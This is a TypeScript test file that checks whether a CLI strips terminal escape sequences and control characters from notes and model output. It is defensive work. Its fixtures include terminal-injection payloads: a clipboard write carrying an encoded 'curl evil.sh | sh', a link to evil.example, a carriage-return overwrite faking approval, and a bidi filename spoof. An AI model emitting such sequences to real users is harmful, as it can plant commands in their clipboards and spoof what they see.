import { existsSync } from 'node:fs'
import { basename, dirname } from 'node:path'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { runPlan } from 'vaultplan'
import { printable, printableJson } from '../src/cli/cli-support.js'
import { bin, vaultplan } from './helpers/cli.js'
import { noJudge, scriptedWorker } from './helpers/scripted.js'
import { note, writeVault } from './helpers/vault.js'

const ESC = '\u001B'
/** What a hostile reply or note can hold: a clipboard write, a hyperlink, cursor moves, a line erase, C1 controls, a bell, a bare CR, bidi overrides. */
const hostile = {
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`,
  hyperlink: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  cursorUp: `${ESC}[2A${ESC}[2K`,
  colour: `${ESC}[31;1m`,
  c1: '\u009B2J\u009D0;title\u009C',
  bell: '\u0007',
  overwrite: 'approved by a person\r',
  bidi: '\u202Egnp.exe\u202C',
}

/** Whether a terminal would act on anything in `text` but line feeds and tabs. */
function hasControls(text: string): boolean {
  return /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/.test(text)
}

describe('printable', () => {
  it('removes escape sequences and control characters, keeping the text, line feeds and tabs', () => {
    expect(
      printable(
        `ok ${hostile.clipboard}then\t${hostile.hyperlink}\n${hostile.cursorUp}${hostile.colour}red ${hostile.c1}${hostile.bell}${hostile.overwrite} é 日本 🎉 ${hostile.bidi}`,
      ),
    ).toBe('ok then\tclick\nred approved by a person é 日本 🎉 gnp.exe')
  })

  it('leaves no control character in any text, and changes no text without one', () => {
    const piece = fc.oneof(
      fc.constantFrom(...Object.values(hostile), ESC, `${ESC}[`, `${ESC}]`, '\u009B', '\r\n', '\n', '\t', '[', ']', ';', 'a'),
      fc.string({ unit: 'binary', maxLength: 6 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = pieces.join('')
        const shown = printable(text)
        expect(hasControls(shown)).toBe(false)
        expect(printable(shown)).toBe(shown)
        if (!hasControls(text)) expect(shown).toBe(text)
      }),
      { numRuns: 2000 },
    )
  })

  it('writes JSON that parses to the same value with no control character left raw', () => {
    const value = { output: Object.values(hostile).join(' '), ok: 'plain' }
    const json = printableJson(value, 2)
    expect(hasControls(json.replace(/\n/g, ''))).toBe(false)
    expect(JSON.parse(json)).toEqual(value)
  })
})

describe('the CLI prints no escape sequence a note or a model wrote', () => {
  beforeAll(() => {
    if (!existsSync(bin)) throw new Error(`\`${bin}\` is missing; run \`npm run build\` first (\`npm test\` does)`)
  })

  it('status and graph', async () => {
    // A C1 CSI that clears the screen, and ESC 7, in a title and an output. (A note whose file
    // name holds them is not read at all: test/loader-hostile.test.ts.)
    const evil = `send\u009B2J${ESC}7`
    const dir = await writeVault({
      'draft.md': note({ front: { type: 'start' }, title: `Draft ${hostile.cursorUp}`, next: ['[[send]]'] }),
      'send.md': note({ title: `Send ${evil}`, body: 'Send it.' }),
    })
    await runPlan(dir, {
      query: `query ${hostile.hyperlink}`,
      work: scriptedWorker((step) => `done ${step.node.id} ${hostile.overwrite}${hostile.c1}`),
      llm: noJudge(),
      fsync: false,
    })
    const [cwd, name] = [dirname(dir), basename(dir)]
    const status = await vaultplan(['status', name], { cwd })
    expect(status.code).toBe(0)
    expect(status.stdout).toContain('completed at send\n')
    expect(status.stdout).toContain('\n>  send   done    1/3     terminal\n')
    expect(status.stdout).toContain('approved by a person')
    const json = await vaultplan(['status', name, '--json'], { cwd })
    const graph = await vaultplan(['graph', name], { cwd })
    const dot = await vaultplan(['graph', name, '--format', 'dot'], { cwd })
    for (const run of [status, json, graph, dot]) {
      expect(run.code).toBe(0)
      expect(hasControls(run.stdout.replace(/\n/g, ''))).toBe(false)
      expect(hasControls(run.stderr.replace(/\n/g, ''))).toBe(false)
    }
    expect(JSON.parse(json.stdout).result.output).toBe(`done send ${hostile.overwrite}${hostile.c1}`)
  })

  it('validate, whose diagnostics quote note text', async () => {
    const dir = await writeVault({ 'a.md': note({ front: { type: 'start' }, title: 'A', next: [`[[gone\u009B2J${ESC}7]]`] }) })
    const [cwd, name] = [dirname(dir), basename(dir)]
    for (const args of [
      ['validate', name],
      ['validate', name, '--json'],
    ]) {
      const run = await vaultplan(args, { cwd })
      expect(run.code).toBe(1)
      expect(run.stdout).toContain('gone')
      expect(hasControls(run.stdout.replace(/\n/g, ''))).toBe(false)
    }
  })
})
